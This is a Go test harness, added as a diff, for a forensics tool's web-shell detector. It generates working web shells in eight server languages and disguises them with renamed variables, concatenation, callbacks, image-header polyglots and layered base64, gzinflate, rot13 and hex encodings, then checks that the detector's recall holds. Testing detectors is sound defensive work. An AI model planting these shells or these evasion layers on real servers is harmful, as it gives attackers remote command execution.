@@ -1,0 +1,484 @@
+package webshell
+
+import (
+	"bytes"
+	"compress/flate"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"math/rand"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/strata-forensics/strata/audit"
+	"github.com/strata-forensics/strata/signatures/decode"
+)
+
+// The metamorphic harness: seed web shells we wrote, in every language the analyzer reads,
+// each rebuilt under one transformation at a time (and a few random others beside it). Every
+// variant must be found as a web shell, with the decoding chain that hides it.
+
+// opts are the transformations a seed applies when it renders.
+type opts struct {
+	v, w     string // names of the variables that carry the request value
+	split    bool   // statements and calls spread over lines
+	comments bool   // comments between and inside statements
+	concat   bool   // names and literals built by concatenation
+	mixCase  bool   // case changes where the language ignores case
+	callback bool   // a callback instead of a direct call
+	array    bool   // the request value passed through an array
+}
+
+// seed is one web shell, rendered under opts as code (without its page wrapper) so that
+// encodings can wrap it.
+type seed struct {
+	name   string
+	lang   string // php, jsp, aspx, jscript, asp, perl, python, ruby
+	path   string
+	render func(o opts) string
+}
+
+// nl is the statement separator under split.
+func nl(o opts) string {
+	if o.split {
+		return "\n\n    "
+	}
+	return " "
+}
+
+func cm(o opts, style string) string {
+	if !o.comments {
+		return ""
+	}
+	switch style {
+	case "c":
+		return " /* system($_GET['x']); Runtime.getRuntime().exec(request.getParameter(\"x\")) */ "
+	case "vb":
+		return " ' Execute Request(\"x\")\r\n"
+	case "hash":
+		return " # system(param('x'))\n"
+	}
+	return ""
+}
+
+// cat splits a literal into a concatenation under concat.
+func cat(o opts, s, op, q string) string {
+	if !o.concat || len(s) < 2 {
+		return q + s + q
+	}
+	h := len(s) / 2
+	return q + s[:h] + q + op + q + s[h:] + q
+}
+
+// mc mixes the case of a case-insensitive name under mixCase.
+func mc(o opts, s string) string {
+	if !o.mixCase {
+		return s
+	}
+	b := []byte(s)
+	for i := range b {
+		if i%2 == 1 {
+			b[i] = bytes.ToUpper(b[i : i+1])[0]
+		} else {
+			b[i] = bytes.ToLower(b[i : i+1])[0]
+		}
+	}
+	return string(b)
+}
+
+var seeds = []seed{
+	{name: "php-system", lang: "php", path: "/var/www/html/status.php", render: func(o opts) string {
+		src := "$_REQUEST['cmd']"
+		get := "$" + o.v + " = (" + src + ");"
+		if o.array {
+			get = "$" + o.w + " = array('k' => " + src + "); $" + o.v + " = $" + o.w + "['k'];"
+		}
+		call := mc(o, "system") + "($" + o.v + ");"
+		switch {
+		case o.callback:
+			call = mc(o, "call_user_func") + "(" + cat(o, "system", ".", "'") + ", $" + o.v + ");"
+		case o.concat:
+			call = "$fn = " + cat(o, "system", ".", "'") + ";" + nl(o) + "$fn($" + o.v + ");"
+		}
+		return "if (" + mc(o, "isset") + "(" + src + ")) {" + nl(o) + cm(o, "c") + get + nl(o) + "echo '<pre>';" + cm(o, "c") + nl(o) + call + nl(o) + "}"
+	}},
+	{name: "php-eval", lang: "php", path: "/var/www/html/wp-content/uploads/cache.php", render: func(o opts) string {
+		get := "$" + o.v + " = $_POST['z'];"
+		if o.array {
+			get = "$" + o.w + "[] = $_POST['z']; $" + o.v + " = $" + o.w + "[0];"
+		}
+		call := "@" + mc(o, "eval") + "($" + o.v + ");"
+		switch {
+		case o.callback:
+			call = mc(o, "array_map") + "(" + cat(o, "assert", ".", "'") + ", array($" + o.v + "));"
+		case o.concat:
+			call = "$g = " + cat(o, "assert", ".", "'") + ";" + nl(o) + "$g($" + o.v + ");"
+		}
+		return get + nl(o) + cm(o, "c") + call
+	}},
+	{name: "php-cookie-passthru", lang: "php", path: "/var/www/html/inc/session.php", render: func(o opts) string {
+		get := "$" + o.v + " = " + mc(o, "base64_decode") + "($_COOKIE['sid']);"
+		if o.array {
+			get = "$" + o.w + " = explode('|', " + mc(o, "base64_decode") + "($_COOKIE['sid'])); $" + o.v + " = $" + o.w + "[1];"
+		}
+		call := "function run_it($c) {" + nl(o) + mc(o, "passthru") + "($c);" + nl(o) + "}" + nl(o) + "run_it($" + o.v + ");"
+		switch {
+		case o.callback:
+			call = mc(o, "register_shutdown_function") + "(" + cat(o, "passthru", ".", "'") + ", $" + o.v + ");"
+		case o.concat:
+			call = "$h = " + cat(o, "pass", ".", "'") + " . 'thru';" + nl(o) + "$h($" + o.v + ");"
+		}
+		return get + cm(o, "c") + nl(o) + call
+	}},
+	{name: "php-input-loader", lang: "php", path: "/var/www/html/xmlrpc-cache.php", render: func(o opts) string {
+		get := "$" + o.v + " = " + mc(o, "file_get_contents") + "(" + cat(o, "php://input", ".", "'") + ");" + nl(o) +
+			"$" + o.v + " = " + mc(o, "openssl_decrypt") + "($" + o.v + ", 'AES-128-ECB', 'e45e329feb5d925b');"
+		if o.array {
+			get += nl(o) + "$" + o.w + " = explode('|', $" + o.v + "); $" + o.v + " = $" + o.w + "[1];"
+		}
+		call := "class C { public function __invoke($p) { " + mc(o, "eval") + "($p . ''); } }" + nl(o) + "@" + mc(o, "call_user_func") + "(new C(), $" + o.v + ");"
+		if o.callback {
+			call = "$" + o.v + "s = array($" + o.v + ", 1); " + mc(o, "usort") + "($" + o.v + "s, " + cat(o, "assert", ".", "'") + ");"
+		}
+		return get + cm(o, "c") + nl(o) + call
+	}},
+	{name: "jsp-runtime", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/health.jsp", render: func(o opts) string {
+		get := "String " + o.v + " = request.getParameter(" + cat(o, "cmd", "+", `"`) + ");"
+		if o.array {
+			get = "String[] " + o.w + " = { request.getParameter(\"cmd\") };" + nl(o) + "String " + o.v + " = " + o.w + "[0];"
+		}
+		call := "Process p = Runtime.getRuntime().exec(new String[] {" + cat(o, "/bin/sh", "+", `"`) + ", \"-c\", " + o.v + "});"
+		if o.concat {
+			call = "Process p = (Process) Runtime.class.getMethod(" + cat(o, "exec", "+", `"`) + ", String.class).invoke(Runtime.getRuntime(), " + o.v + ");"
+		}
+		return "if (request.getParameter(\"cmd\") != null) {" + nl(o) + get + cm(o, "c") + nl(o) + call + nl(o) +
+			"java.io.InputStream in = p.getInputStream(); int c; while ((c = in.read()) != -1) { out.print((char) c); }" + nl(o) + "}"
+	}},
+	{name: "jsp-processbuilder", lang: "jsp", path: "/opt/jetty/webapps/app/status.jsp", render: func(o opts) string {
+		get := "String " + o.v + " = request.getHeader(\"X-Token\");"
+		if o.array {
+			get = "java.util.List<String> " + o.w + " = new java.util.ArrayList<>(); " + o.w + ".add(request.getHeader(\"X-Token\"));" + nl(o) + "String " + o.v + " = " + o.w + ".get(0);"
+		}
+		return get + cm(o, "c") + nl(o) + "new ProcessBuilder(" + cat(o, "bash", "+", `"`) + ", \"-c\"," + nl(o) + o.v + ").redirectErrorStream(true).start();"
+	}},
+	{name: "aspx-process", lang: "aspx", path: "/inetpub/wwwroot/App_Data/help.aspx", render: func(o opts) string {
+		get := "string " + o.v + " = Request.Form[" + cat(o, "c", "+", `"`) + "];"
+		if o.array {
+			get = "var " + o.w + " = new System.Collections.Generic.Dictionary<string, string>(); " + o.w + "[\"c\"] = Request.Form[\"c\"];" + nl(o) + "string " + o.v + " = " + o.w + "[\"c\"];"
+		}
+		return get + cm(o, "c") + nl(o) + "var psi = new System.Diagnostics.ProcessStartInfo(" + cat(o, "cmd.exe", "+", `"`) + ", \"/c \" + " + o.v + ");" + nl(o) +
+			"psi.UseShellExecute = false; psi.RedirectStandardOutput = true;" + nl(o) + "Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());"
+	}},
+	{name: "aspx-jscript-eval", lang: "jscript", path: "/inetpub/wwwroot/error.aspx", render: func(o opts) string {
+		get := "var " + o.v + " = Request.Item[" + cat(o, "pass", "+", `"`) + "];"
+		if o.array {
+			get = "var " + o.w + " = [Request.Item[\"pass\"]];" + nl(o) + "var " + o.v + " = " + o.w + "[0];"
+		}
+		return get + cm(o, "c") + nl(o) + "eval(" + o.v + ", " + cat(o, "unsafe", "+", `"`) + ");"
+	}},
+	{name: "asp-wscript", lang: "asp", path: "/inetpub/wwwroot/images/upload.asp", render: func(o opts) string {
+		sep := "\r\n"
+		get := o.v + " = " + mc(o, "Request") + "(" + cat(o, "c", " & ", `"`) + ")"
+		if o.array {
+			get = "Dim " + o.w + "(1)" + sep + o.w + "(0) = " + mc(o, "Request") + "(\"c\")" + sep + o.v + " = " + o.w + "(0)"
+		}
+		return get + sep + cm(o, "vb") + "Set sh = " + mc(o, "CreateObject") + "(" + cat(o, "WScript.Shell", " & ", `"`) + ")" + sep +
+			"Set ex = sh." + mc(o, "Exec") + "(\"cmd /c \" & " + o.v + ")" + sep + "Response.Write ex.StdOut.ReadAll()"
+	}},
+	{name: "asp-execute", lang: "asp", path: "/inetpub/wwwroot/global.asp", render: func(o opts) string {
+		sep := "\r\n"
+		get := o.v + " = " + mc(o, "Request.Form") + "(" + cat(o, "code", " & ", `"`) + ")"
+		if o.array {
+			get = "Dim " + o.w + "(1)" + sep + o.w + "(0) = " + mc(o, "Request.Form") + "(\"code\")" + sep + o.v + " = " + o.w + "(0)"
+		}
+		return get + sep + cm(o, "vb") + mc(o, "Execute") + " " + o.v
+	}},
+	{name: "perl-cgi", lang: "perl", path: "/usr/lib/cgi-bin/stats.pl", render: func(o opts) string {
+		get := "my $" + o.v + " = $q->param(" + cat(o, "c", ".", "'") + ");"
+		if o.array {
+			get = "my @" + o.w + " = ($q->param('c'));\nmy $" + o.v + " = $" + o.w + "[0];"
+		}
+		return "use CGI;\nmy $q = CGI->new;\n" + get + "\n" + cm(o, "hash") + "print $q->header('text/plain');\nsystem(" + cat(o, "sh -c ", ".", `"`) + " . $" + o.v + ");\n"
+	}},
+	{name: "python-cgi", lang: "python", path: "/usr/lib/cgi-bin/status.py", render: func(o opts) string {
+		get := o.v + " = form.getvalue(" + cat(o, "cmd", " + ", "'") + ")"
+		if o.array {
+			get = o.w + " = [form.getvalue('cmd')]\n" + o.v + " = " + o.w + "[0]"
+		}
+		call := "subprocess.call(" + o.v + ", shell=True)"
+		switch {
+		case o.callback:
+			call = "list(map(os.system, [" + o.v + "]))"
+		case o.concat:
+			call = "getattr(os, " + cat(o, "system", " + ", "'") + ")(" + o.v + ")"
+		}
+		return "import cgi, os, subprocess\nform = cgi.FieldStorage()\n" + get + "\n" + cm(o, "hash") + "print('Content-Type: text/plain')\nprint()\n" + call + "\n"
+	}},
+	{name: "ruby-cgi", lang: "ruby", path: "/usr/lib/cgi-bin/status.rb", render: func(o opts) string {
+		get := o.v + " = cgi[" + cat(o, "c", " + ", "'") + "]"
+		if o.array {
+			get = o.w + " = [cgi['c']]\n" + o.v + " = " + o.w + "[0]"
+		}
+		call := "system(" + o.v + ")"
+		switch {
+		case o.callback:
+			call = "[" + o.v + "].each { |x| system(x) }"
+		case o.concat:
+			call = "send(" + cat(o, "system", " + ", "'") + ", " + o.v + ")"
+		}
+		return "require 'cgi'\ncgi = CGI.new\n" + get + "\n" + cm(o, "hash") + "puts cgi.header\n" + call + "\n"
+	}},
+}
+
+// wrapPage wraps code into the file the language runs.
+func wrapPage(lang, code string) string {
+	switch lang {
+	case "php":
+		return "<?php\n" + code + "\n?>\n"
+	case "jsp":
+		return "<%@ page import=\"java.io.*\" %>\n<%\n" + code + "\n%>\n"
+	case "aspx":
+		return "<%@ Page Language=\"C#\" %>\n<%\n" + code + "\n%>\n"
+	case "jscript":
+		return "<%@ Page Language=\"Jscript\" %>\n<%\n" + code + "\n%>\n"
+	case "asp":
+		return "<%\r\n" + code + "\r\n%>\r\n"
+	case "perl":
+		return "#!/usr/bin/perl\n" + code
+	case "python":
+		return "#!/usr/bin/env python3\n" + code
+	case "ruby":
+		return "#!/usr/bin/env ruby\n" + code
+	}
+	return code
+}
+
+// encoding is one layer a page's code can hide behind: the wrapper that decodes it at run
+// time, and the chain a finding must name.
+type encoding struct {
+	name  string
+	langs string // languages it fits
+	wrap  func(code string) string
+	chain []string
+}
+
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+func deflate(s string) []byte {
+	var b bytes.Buffer
+	w, _ := flate.NewWriter(&b, 9)
+	w.Write([]byte(s))
+	w.Close()
+	return b.Bytes()
+}
+
+func phpQuote(s string) string {
+	return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(s) + "'"
+}
+
+func chrs(s, sep, fn string) string {
+	var parts []string
+	for _, c := range []byte(s) {
+		parts = append(parts, fmt.Sprintf("%s(%d)", fn, c))
+	}
+	return strings.Join(parts, sep)
+}
+
+var encodings = []encoding{
+	{"base64", "php", func(c string) string { return "eval(base64_decode('" + b64(c) + "'));" }, []string{"base64"}},
+	{"gzinflate", "php", func(c string) string {
+		return "eval(gzinflate(base64_decode('" + base64.StdEncoding.EncodeToString(deflate(c)) + "')));"
+	}, []string{"base64", "gzinflate"}},
+	{"rot13", "php", func(c string) string { return "eval(str_rot13(" + phpQuote(decode.Rot13(c)) + "));" }, []string{"rot13"}},
+	{"strrev", "php", func(c string) string { return "eval(strrev(" + phpQuote(decode.Reverse(c)) + "));" }, []string{"strrev"}},
+	{"hex", "php", func(c string) string { return "eval(hex2bin('" + hex.EncodeToString([]byte(c)) + "'));" }, []string{"hex"}},
+	{"chr", "php", func(c string) string { return "eval(" + chrs(c, ".", "chr") + ");" }, []string{"chr"}},
+	{"chr", "asp", func(c string) string { return "Execute(" + chrs(c, " & ", "Chr") + ")" }, []string{"chr"}},
+	{"base64", "jsp", func(c string) string {
+		return "javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName(\"js\"); e.put(\"request\", request); e.put(\"out\", out);\n" +
+			"e.eval(new String(java.util.Base64.getDecoder().decode(\"" + b64(c) + "\")));"
+	}, []string{"base64"}},
+	{"base64", "jscript", func(c string) string {
+		return "eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"" + b64(c) + "\")), \"unsafe\");"
+	}, []string{"base64"}},
+	{"base64", "python", func(c string) string { return "import base64\nexec(base64.b64decode('" + b64(c) + "'))\n" }, []string{"base64"}},
+	{"base64", "perl", func(c string) string { return "use MIME::Base64;\neval(decode_base64('" + b64(c) + "'));\n" }, []string{"base64"}},
+	{"base64", "ruby", func(c string) string { return "require 'base64'\neval(Base64.decode64('" + b64(c) + "'))\n" }, []string{"base64"}},
+}
+
+func encodingsFor(lang string) []encoding {
+	var out []encoding
+	for _, e := range encodings {
+		if e.langs == lang {
+			out = append(out, e)
+		}
+	}
+	return out
+}
+
+// headers are image headers put in front of a page: GIF, PNG and JPEG.
+var headers = []struct{ name, data string }{
+	{"GIF", "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"},
+	{"PNG", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"},
+	{"JPEG", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe\x00\x13"},
+}
+
+// variant is one generated file and what the analyzer must say about it.
+type variant struct {
+	seed      string
+	technique string
+	path      string
+	data      []byte
+	chain     []string // the decoding chain the finding must name; nil for none
+	polyglot  string   // the image the finding must name; "" for none
+}
+
+var names = []string{"cmd", "x", "_0x3f", "data", "payload", "q1", "zz", "buf", "arg", "k"}
+
+// randomOpts picks other transformations to go beside the one under test.
+func randomOpts(r *rand.Rand) opts {
+	o := opts{v: names[r.Intn(len(names))], w: names[r.Intn(len(names))] + "s"}
+	o.split = r.Intn(3) == 0
+	o.comments = r.Intn(3) == 0
+	return o
+}
+
+// variants generates the harness's files: for each technique, every seed it fits.
+func variants() []variant {
+	r := rand.New(rand.NewSource(11))
+	var out []variant
+	add := func(s seed, tech string, o opts, enc []encoding, hdr string, hname string) {
+		code := s.render(o)
+		var chain []string
+		for _, e := range enc {
+			code = e.wrap(code)
+		}
+		for i := len(enc) - 1; i >= 0; i-- {
+			chain = append(chain, enc[i].chain...)
+		}
+		data := hdr + wrapPage(s.lang, code)
+		v := variant{seed: s.name, technique: tech, path: s.path, data: []byte(data), chain: chain}
+		if hname != "" {
+			v.polyglot = hname + " image"
+		}
+		out = append(out, v)
+	}
+	for _, s := range seeds {
+		caseless := s.lang == "php" || s.lang == "asp"
+		add(s, "original", opts{v: "cmd", w: "arr"}, nil, "", "")
+		for i := 0; i < 3; i++ {
+			o := randomOpts(r)
+			o.split, o.comments = false, false
+			add(s, "renamed-variables", o, nil, "", "")
+		}
+		o := randomOpts(r)
+		o.split = true
+		add(s, "split-lines", o, nil, "", "")
+		o = randomOpts(r)
+		o.comments = true
+		add(s, "comments", o, nil, "", "")
+		o = randomOpts(r)
+		o.concat = true
+		add(s, "concatenation", o, nil, "", "")
+		if caseless {
+			o = randomOpts(r)
+			o.mixCase = true
+			add(s, "case", o, nil, "", "")
+		}
+		if s.lang == "php" || s.lang == "python" || s.lang == "ruby" {
+			o = randomOpts(r)
+			o.callback = true
+			add(s, "callbacks", o, nil, "", "")
+		}
+		o = randomOpts(r)
+		o.array = true
+		add(s, "through-arrays", o, nil, "", "")
+		if s.lang == "php" || s.lang == "jsp" || s.lang == "aspx" || s.lang == "jscript" || s.lang == "asp" {
+			for _, h := range headers {
+				add(s, "image-header", randomOpts(r), nil, h.data, h.name)
+			}
+		}
+		encs := encodingsFor(s.lang)
+		for _, e := range encs {
+			add(s, "encoding-1", randomOpts(r), []encoding{e}, "", "")
+		}
+		if len(encs) > 0 {
+			for n := 2; n <= 3; n++ {
+				for k := 0; k < 3; k++ {
+					var enc []encoding
+					for len(enc) < n {
+						enc = append(enc, encs[r.Intn(len(encs))])
+					}
+					add(s, fmt.Sprintf("encoding-%d", n), randomOpts(r), enc, "", "")
+				}
+			}
+			// everything at once
+			o := randomOpts(r)
+			o.concat, o.comments, o.split, o.array = true, true, true, true
+			o.mixCase = caseless
+			hdr, hname := "", ""
+			if s.lang == "php" {
+				hdr, hname = headers[0].data, headers[0].name
+			}
+			add(s, "combined", o, []encoding{encs[r.Intn(len(encs))], encs[r.Intn(len(encs))]}, hdr, hname)
+		}
+	}
+	return out
+}
+
+// found reports whether the findings name the variant as a web shell with its chain and
+// header.
+func found(v variant, fs []audit.Finding) (bool, string) {
+	want := "decoded: " + strings.Join(v.chain, " > ")
+	for _, f := range fs {
+		if f.Category != audit.CategoryWebshell || f.Severity < audit.High {
+			continue
+		}
+		if len(v.chain) > 0 && !strings.Contains(f.Title, "("+want+")") {
+			continue
+		}
+		if len(v.chain) == 0 && strings.Contains(f.Title, "decoded:") {
+			continue
+		}
+		if v.polyglot != "" && !strings.Contains(f.Title, v.polyglot) {
+			continue
+		}
+		return true, ""
+	}
+	return false, "want webshell" + map[bool]string{true: " (" + want + ")", false: ""}[len(v.chain) > 0] + " " + v.polyglot + "; got:" + dump(fs)
+}
+
+func TestHarness(t *testing.T) {
+	a := New()
+	type tally struct{ found, total int }
+	byTech := map[string]*tally{}
+	for _, v := range variants() {
+		ty := byTech[v.technique]
+		if ty == nil {
+			ty = &tally{}
+			byTech[v.technique] = ty
+		}
+		ty.total++
+		fs := a.Analyze(v.path, v.data)
+		ok, why := found(v, fs)
+		if ok {
+			ty.found++
+			continue
+		}
+		t.Errorf("%s/%s: %s\n--- variant:\n%s", v.seed, v.technique, why, v.data)
+	}
+	techs := make([]string, 0, len(byTech))
+	for k := range byTech {
+		techs = append(techs, k)
+	}
+	sort.Strings(techs)
+	all := tally{}
+	for _, k := range techs {
+		ty := byTech[k]
+		all.found += ty.found
+		all.total += ty.total
+		fmt.Printf("harness: webshell/%s %d/%d recall=%.3f\n", k, ty.found, ty.total, float64(ty.found)/float64(ty.total))
+	}
+	fmt.Printf("harness: webshell/all %d/%d recall=%.3f\n", all.found, all.total, float64(all.found)/float64(all.total))
+}
